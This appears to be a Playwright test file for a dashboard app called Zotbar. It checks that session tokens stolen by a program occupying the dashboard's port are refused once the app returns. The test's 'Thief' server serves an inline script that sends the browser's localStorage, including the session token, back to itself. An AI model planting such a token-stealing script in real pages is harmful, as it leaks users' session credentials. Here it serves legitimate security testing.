import { createServer, type Server } from 'node:http'
import { expect, type Page, test } from '@playwright/test'
import { freePort } from '../setup/free-port.ts'
import { LiveApp } from './live-app.ts'

const serving = (page: Page) => page.getByRole('heading', { level: 2, name: 'Serving' })

/** Another program on the dashboard's port: its page sends what the browser stores for this address. */
class Thief {
  read: Record<string, string> | undefined
  private readonly server: Server

  constructor() {
    this.server = createServer((request, response) => {
      if (request.method !== 'POST') {
        response.setHeader('content-type', 'text/html')
        response.end("<script>fetch('/', {method: 'POST', body: JSON.stringify({...localStorage})})</script>")
        return
      }
      let body = ''
      request.on('data', piece => {
        body += piece
      })
      request.on('end', () => {
        this.read = JSON.parse(body)
        response.end()
      })
    })
  }

  listen(port: number): Promise<void> {
    return new Promise((resolve, reject) => {
      this.server.on('error', reject).listen(port, '127.0.0.1', resolve)
    })
  }

  close(): Promise<void> {
    return new Promise(resolve => {
      this.server.close(() => resolve())
      this.server.closeAllConnections()
    })
  }

  /** What it stole, once a page of its has run. */
  async token(): Promise<string> {
    await expect.poll(() => this.read).toBeDefined()
    return JSON.parse(this.read?.['zotbar.session'] ?? '{}').token
  }
}

test.describe('a program that takes the port of the dashboard while Zotbar is away', () => {
  test.describe.configure({ timeout: 90_000 })

  let port: number
  let app: LiveApp
  let thief: Thief
  let url: string

  test.beforeEach(async ({ page }) => {
    port = await freePort()
    url = `http://127.0.0.1:${port}/`
    app = await LiveApp.make(port)
    thief = new Thief()
    await app.start()
    await page.goto(await app.link())
    await expect(serving(page)).toBeVisible()
  })
  test.afterEach(async () => {
    await thief.close()
    await app.dispose()
  })

  async function use(token: string, path = '/api/app.snapshot'): Promise<number> {
    const answer = await fetch(new URL(path, url), {
      method: 'POST',
      headers: { 'content-type': 'application/json', 'x-zotbar-session': token },
      body: '{}',
    })
    return answer.status
  }

  /** The page of the thief, at the dashboard's own address, in the browser that is signed in. */
  async function steal(page: Page): Promise<string> {
    await app.kill()
    await thief.listen(port)
    const other = await page.context().newPage()
    await other.goto(url)
    const token = await thief.token()
    expect(token).toMatch(/^[\w-]{22}\.[\w-]{43}$/)
    await other.close()
    return token
  }

  test('and still has it when Zotbar is back: what it read is refused for good', async ({ page }) => {
    const token = await steal(page)
    await app.start()
    await expect.poll(() => app.statusText()).toContain(`port ${port} is taken`)
    expect(await app.statusText()).toContain(`(process ${process.pid}) has it`)
    expect((await app.status()).dashboard).toBeUndefined()
    await thief.close()
    await expect.poll(async () => (await app.status()).dashboard?.url, { timeout: 20_000 }).toBe(url)
    expect(await use(token)).toBe(401)
    expect(await use(token, '/api/session/change')).toBe(401)
    await expect(page.getByRole('heading', { level: 1 })).toHaveText('This page is not signed in', {
      timeout: 15_000,
    })
    await page.goto(await app.link())
    await expect(serving(page)).toBeVisible()
    expect(await use(token)).toBe(401)
  })

  test('and gives it up before: the page has another token by then, and what was read ends the session', async ({
    page,
  }) => {
    const token = await steal(page)
    await thief.close()
    await app.start()
    // The page comes back by itself, and changes the token as it does.
    await expect
      .poll(() => page.evaluate(() => localStorage.getItem('zotbar.session')), { timeout: 15_000 })
      .not.toContain(token)
    await expect(serving(page)).toBeVisible()
    await expect.poll(() => use(token), { timeout: 20_000 }).toBe(401)
    await expect(page.getByRole('heading', { level: 1 })).toHaveText('This page is not signed in', {
      timeout: 15_000,
    })
    await page.goto(await app.link())
    await expect(page.getByRole('region', { name: 'Notices' })).toContainText(
      'A session of the dashboard was ended',
    )
    expect(await use(token)).toBe(401)
  })
})
